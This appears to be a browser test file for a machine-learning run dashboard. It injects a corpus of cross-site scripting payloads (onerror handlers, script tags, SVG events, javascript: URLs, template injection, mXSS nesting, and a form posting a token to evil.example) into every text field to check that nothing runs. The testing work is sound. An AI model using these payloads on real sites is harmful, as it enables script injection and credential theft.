// Hostile text in every field a model, a worker or a person may have written: it stays text on every
// page, nothing of it runs, and not one violation of the content policy or of Trusted Types happens.
import { act } from "./act.mjs";
import { startMock } from "./mock.mjs";
import { hex } from "./mock_data.mjs";

const { ok, open, run } = await act("browser hostile");

const CORPUS = [
	`<img src=x onerror="window.pwned='img'">`,
	`<script>window.pwned='script'</script>`,
	`<svg onload="window.pwned='svg'"><animate onbegin="window.pwned='smil'" attributeName=x dur=1s>`,
	`"><iframe srcdoc="<script>parent.pwned='frame'</script>">`,
	`javascript:window.pwned='url'//`,
	`<a href="javascript:window.pwned='link'" autofocus onfocus="window.pwned='focus'">x</a>`,
	`{{constructor.constructor("window.pwned='template'")()}}`,
	`<math><mtext><table><mglyph><style><img src=x onerror=window.pwned='mxss'>`,
	`</textarea></title></style><img src=x onerror=window.pwned='end'>`,
	`<style>*{display:none!important}</style><base href="https://evil.example/">`,
	`<form action="https://evil.example"><input name=token><button autofocus>go</button></form>`,
	`data:text/html,<script>window.pwned='data'</script>`,
	"\u202Eright to left\u202C \u0000nul \u0007bell \u001b[31mred\u001b[0m \u001b]8;;https://evil.example\u0007link",
	"\ud800 lone surrogate \ufffe \uffff " + "\u0300".repeat(200),
	"__proto__", "constructor",
	"x".repeat(3000) + "<img src=x onerror=window.pwned='long'>",
];

const FIELDS = new Set(["name", "prompt", "text", "note", "reason", "message", "detail", "wait_reason", "host", "labels", "notes", "error", "who", "user", "from", "code", "engine", "finish", "unit", "variant", "role", "by"]);
const OURS = new Set(["pair", "dpo", "judge"]);

/** Every free text of the mock's world becomes one of the corpus; ids, states and digests stay. */
function poison(x, next, seen = new Set()) {
	if (x === null || typeof x !== "object" || seen.has(x)) return;
	seen.add(x);
	for (const [k, v] of x instanceof Map ? [...x].map(([, y], i) => [String(i), y]) : Object.entries(x)) {
		if (typeof v === "string") {
			if (FIELDS.has(k) && !OURS.has(v) && !(k === "role" && /^(model|samples|pairs|generations|h2h|admin|viewer|operator|worker)$/.test(v))) x[k] = next();
		} else poison(v, next, seen);
	}
}

const SAMPLES = hex("r7k2f9.1.pair.0.0/samples");
const PAGES = ["/", "/runs", "/runs/r3xss1", "/runs/r3xss1/timeline?group=worker", "/runs/r3xss1/jobs", "/runs/r9m4q2/charts", "/runs/r7k2f9/data", "/runs/r7k2f9/checkpoints", "/runs/r9m4q2/config", "/runs/r9m4q2/events",
	"/jobs/r3xss1.1.judge.1.2?find=onerror", "/workers", "/data", `/data/${SAMPLES}?at=2`, `/data/${SAMPLES}?at=3&view=diff`, `/data/${SAMPLES}?at=0`, `/data/${SAMPLES}?at=0&blind=1`, `/data/${SAMPLES}?at=4&view=raw`, `/data/${SAMPLES}?q=%3Cimg`, `/data/${hex("r7k2f9.1.pair.0.0/pairs")}`, `/data/${hex("r7k2f9.1.eval.0.0/generations")}`,
	"/checkpoints", `/checkpoints/${hex("r7k2f9.2.dpo.2.0/model")}`, "/compare?run=r7k2f9&diff=r9m4q2&words=1", "/runs/new?from=r3xss1", "/settings", "/runs/%3Cimg%20src=x%20onerror=window.pwned=1%3E", "/runs?q=%3Cscript%3Ewindow.pwned=1%3C/script%3E", "/compare?run=%22%3E%3Cimg%20src=x%20onerror=window.pwned=1%3E"];

await run({
	async "the whole corpus on every page"() {
		const mock = await startMock({ tickMs: 0 });
		let n = 0;
		poison(mock.world, () => CORPUS[n++ % CORPUS.length]);
		for (const j of mock.world.runs.flatMap((r) => r.jobs)) mock.logs.set(j.id, CORPUS.join("\n") + "\n");
		ok(n > 1000, "there is enough of it", n);
		const { context, page } = await open(mock);
		await page.waitForSelector(".top");
		let hold = 0;
		for (const path of PAGES) {
			await page.goto(mock.url + path);
			await page.waitForSelector("main");
			await page.waitForFunction(() => !document.querySelector(".skeleton"), null, { timeout: 15000 }).catch(() => undefined);
			if (path.includes("/events")) mock.emit("job", "r9m4q2", "r9m4q2.1.dpo.1.0", { state: CORPUS[0], worker: CORPUS[1], reason: CORPUS[2], progress: { done: 1, total: 2, unit: CORPUS[7] } });
			await page.waitForTimeout(150);
			for (const b of await page.locator(".verdict:not(:disabled)").all()) await b.click().catch(() => undefined);
			const got = await page.evaluate(() => ({ pwned: window.pwned, alien: [...document.querySelectorAll("main img, main iframe, main object, main embed, main script, main base, main style, main math, [onerror], [onload], a[href^='javascript'], a[href^='data:'], form[action]")].map((e) => e.outerHTML.slice(0, 80)), text: document.body.innerText }));
			ok(got.pwned === undefined, `${path}: nothing ran`, got.pwned);
			ok(got.alien.length === 0, `${path}: no element came of it`, got.alien.join(" "));
			ok(!/[\u202a-\u202e\u2066-\u2069]/.test(got.text) || !path.startsWith("/data/"), `${path}: no hidden direction in model text`);
			if (/onerror|<script>|<svg/.test(got.text)) hold++;
			const trouble = await page.trouble();
			ok(trouble.length === 0, `${path}: no violation, exception or foreign request`, trouble.slice(0, 2).join(" | "));
		}
		ok(hold > 12, "the text was there to be seen", hold);
		await context.close();
		mock.close();
	},

	async "a line of a megabyte, an answer of one, and a thousand escapes: the page goes on"() {
		const mock = await startMock({ tickMs: 0 });
		const long = "y".repeat(1e6) + CORPUS[0] + "\u001b[31m".repeat(1000);
		const set = mock.world.datasets.get(SAMPLES);
		for (const c of set.rows[0].candidates) c.text = long.slice(0, -1 - c.index);
		mock.logs.set("r9m4q2.1.dpo.1.0", `begin\n${long}\nthe end\n`);
		const { context, page } = await open(mock, { path: `/data/${SAMPLES}?at=0` });
		await page.waitForSelector(".cand .model-text");
		const shown = () => page.locator(".cand .model-text").first().evaluate((e) => e.textContent.length);
		ok((await shown()) < 21_000 && /98\d.\d{3} more characters/.test(await page.locator(".cand .model-text").first().textContent()), "its beginning, and how much more there is", await shown());
		await page.getByRole("button", { name: /more characters/ }).first().click();
		ok((await shown()) > 120_000, "which comes when asked for", await shown());
		await page.keyboard.press("d");
		await page.waitForSelector(".wide-cand");
		await page.keyboard.press("j");
		await page.waitForURL(/at=1/);
		await page.waitForSelector('.sample[aria-label="Row 1"]');
		ok(true, "the next row comes");
		await page.goto(mock.url + "/jobs/r9m4q2.1.dpo.1.0");
		await page.waitForFunction(() => /the end/.test(document.querySelector(".log pre")?.textContent ?? ""));
		ok((await page.evaluate(() => document.querySelector(".log pre").textContent.length)) < 600_000, "a log shows its end, not all of it");
		await page.getByRole("button", { name: "Wrap" }).click();
		await page.getByRole("button", { name: "To the top" }).click();
		await page.waitForFunction(() => /^begin/.test(document.querySelector(".log pre")?.textContent ?? ""));
		ok((await page.evaluate(() => window.pwned)) === undefined && !/\u001b/.test(await page.textContent(".log")), "nothing ran, no escape is left");
		const t = await page.trouble();
		ok(t.length === 0, "no error", t.join(" | "));
		await context.close();
		mock.close();
	},
});
